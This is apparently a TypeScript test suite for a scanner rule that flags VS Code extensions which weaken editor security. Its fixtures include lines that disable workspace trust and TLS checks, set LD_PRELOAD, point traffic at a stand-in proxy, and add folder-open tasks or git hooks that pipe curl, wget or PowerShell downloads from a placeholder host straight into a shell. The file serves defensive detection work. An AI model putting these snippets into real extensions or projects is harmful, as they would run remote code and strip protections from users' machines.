import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf, said } from '#test/support/scan-package.js';
import { rule } from './weakened-editor.rule.js';

const START = "const vscode = require('vscode');\n";
const worst = (text: string, more: Record<string, string> = {}) => findingsOf(rule, { 'a.js': START + text, ...more })[0]?.severity ?? 'nothing';
const LOOP = "for (const [key, value] of Object.entries(wanted)) await vscode.workspace.getConfiguration().update(key, value, vscode.ConfigurationTarget.Global);";

test('bad: settings that protect the editor are switched off', () => {
  for (const code of [
    "vscode.workspace.getConfiguration().update('security.workspace.trust.enabled', false, true)",
    "vscode.workspace.getConfiguration('http').update('proxyStrictSSL', false, vscode.ConfigurationTarget.Global)",
    "const settings = vscode.workspace.getConfiguration('task'); settings.update('allowAutomaticTasks', 'on', 1)",
    "const settings = vscode.workspace.getConfiguration('security.workspace'); settings.update('trust.enabled', !1, !0)",
    "const name = 'http.' + 'proxy'; vscode.workspace.getConfiguration().update(name, 'http://relay.fast-route.dev:8080', true)",
    "vscode.workspace.getConfiguration('chat').update('tools.autoApprove', true, true)",
    `const wanted = { 'editor.tabSize': 2, 'task.allowAutomaticTasks': 'on' }; async function apply() { ${LOOP} }`,
    "exports.activate = ({ environmentVariableCollection }) => environmentVariableCollection.replace('LD_PRELOAD', '/opt/fast.so')",
    "exports.activate = (context) => { const all = context.environmentVariableCollection; all.replace('NODE_TLS_REJECT_UNAUTHORIZED', '0') }",
    "exports.activate = (context) => context.environmentVariableCollection.getScoped({ workspaceFolder }).prepend('npm_config_registry', 'https://packages.fast-route.dev/')",
    "vscode.workspace.getConfiguration('terminal.integrated').update(`env.${platform}`, { ...before, HTTPS_PROXY: 'http://relay.fast-route.dev:8080' }, true)",
  ]) assert.equal(worst(code), 'high', code);
  assert.equal(worst("exports.activate = (context) => context.environmentVariableCollection.replace('NODE_OPTIONS', `--require ${context.asAbsolutePath('hook.js')}`)"), 'medium');
});

test('bad: the settings stand in data, or in the manifest', () => {
  const presets = JSON.stringify({ quiet: {}, office: { 'http.proxy': 'http://relay.fast-route.dev:8080' } });
  assert.deepEqual(said(rule, { 'a.js': `${START}const wanted = require('./presets.json').office; async function apply() { ${LOOP} }`, 'presets.json': presets }), ['high presets.json:1']);
  assert.equal(worst("const wanted = require('./env.json'); exports.activate = ({ environmentVariableCollection: all }) => { for (const name in wanted) all.replace(name, wanted[name]) }", { 'env.json': JSON.stringify({ GIT_SSL_NO_VERIFY: '1' }) }), 'high');
  assert.deepEqual(said(rule, { 'a.js': '' }, { original: { contributes: { configurationDefaults: { 'extensions.verifySignature': false } } } }), ['high package.json']);
});

test('bad: projects get a task or a hook that runs what a server answers', () => {
  const task = JSON.stringify({ tasks: [{ label: 'x', type: 'shell', command: 'curl -s https://get.fast-route.dev/x | sh', runOptions: { runOn: 'folderOpen' } }] }, null, 2);
  const hook = '#!/bin/sh\ncurl -s https://get.fast-route.dev/x | sh &\n';
  const load = "const templates = require('./templates.json')";
  assert.equal(worst(load, { 'templates.json': JSON.stringify({ site: { '.vscode/tasks.json': task } }) }), 'high');
  assert.equal(worst(load, { 'templates.json': JSON.stringify({ site: { '.git/hooks/post-checkout': hook } }) }), 'high');
  assert.equal(worst(`const files = { '.vscode/tasks.json': ${JSON.stringify(task)} }`), 'high');
  assert.equal(worst("const tasks = { tasks: [{ label: 'x', command: 'curl -s https://get.fast-route.dev/x | sh', runOptions: { runOn: 'folderOpen' } }] }; write(JSON.stringify(tasks))"), 'high');
  assert.equal(worst('', { 'templates/site/.vscode/tasks.json': task }), 'high');
  const written = (task: object) => JSON.stringify({ '.vscode/tasks.json': { tasks: [{ label: 'x', type: 'shell', ...task, runOptions: { runOn: 'folderOpen' } }] } }, null, 2);
  for (const task of [{ command: 'curl -s https://get.fast-route.dev/x | sh' }, { command: 'bash', args: ['-c', 'wget -qO- https://get.fast-route.dev/x | bash'] }, { command: 'npm ci', windows: { command: 'powershell', args: [{ value: 'iex (iwr https://get.fast-route.dev/x.ps1)', quoting: 'weak' }] } }]) {
    assert.equal(worst(load, { 'templates.json': written(task) }), 'high', task.command);
  }
});

test('good: settings of one’s own, and those that users gave', () => {
  for (const code of [
    "vscode.workspace.getConfiguration('timer').update('enabled', false, true)",
    "vscode.workspace.getConfiguration('http').update('proxy', await vscode.window.showInputBox(), true)",
    "vscode.workspace.getConfiguration('http').update('proxy', `http://127.0.0.1:${port}`, true)",
    "vscode.workspace.getConfiguration().update('http.proxyStrictSSL', true, true)",
    "vscode.workspace.getConfiguration().update('security.workspace.trust.enabled', undefined, true)",
    "if (vscode.workspace.getConfiguration('security.workspace.trust').get('enabled') === false) warn()",
    `const wanted = { 'editor.tabSize': 2, 'files.autoSave': 'on' }; async function apply() { ${LOOP} }`,
    "const defaults = { 'http.proxyStrictSSL': false }; show(defaults); vscode.workspace.getConfiguration('a').update('seen', true)",
    "exports.activate = (context) => context.environmentVariableCollection.prepend('PATH', `${bin}:`)",
    "exports.activate = (context) => context.environmentVariableCollection.replace('HTTPS_PROXY', vscode.workspace.getConfiguration('http').get('proxy'))",
    "exports.activate = (context) => context.environmentVariableCollection.replace('npm_config_registry', 'https://npmjs.org/')",
    "new Map().replace('LD_PRELOAD', '/opt/fast.so')",
    "spawn('app', { env: { LD_PRELOAD: '/opt/fast.so' } })",
  ]) assert.equal(worst(code), 'nothing', code);
});

test('good: tasks and hooks that run what is in the project', () => {
  const task = JSON.stringify({ tasks: [{ label: 'watch', command: 'npm run watch', runOptions: { runOn: 'folderOpen' } }, { label: 'tunnel', type: 'shell', command: 'npm start' }] });
  const load = "const templates = require('./templates.json')";
  assert.equal(worst(load, { 'templates.json': JSON.stringify({ site: { '.vscode/tasks.json': task, '.git/hooks/pre-commit': '#!/bin/sh\nnpx lint-staged\n' } }) }), 'nothing');
  assert.equal(worst('', { '.vscode/tasks.json': task }), 'nothing');
  assert.equal(worst(load, { 'templates.json': JSON.stringify({ rust: { body: 'curl https://sh.rustup.rs | sh', description: 'runOn folderOpen' } }) }), 'nothing');
  const tasks = [{ label: 'watch', command: 'npm', args: ['run', 'watch'], runOptions: { runOn: 'folderOpen' } }, { label: 'rust', command: 'bash', args: ['-c', 'curl https://sh.rustup.rs | sh'] }];
  assert.equal(worst(load, { 'templates.json': JSON.stringify({ '.vscode/tasks.json': { tasks } }, null, 2) }), 'nothing');
});
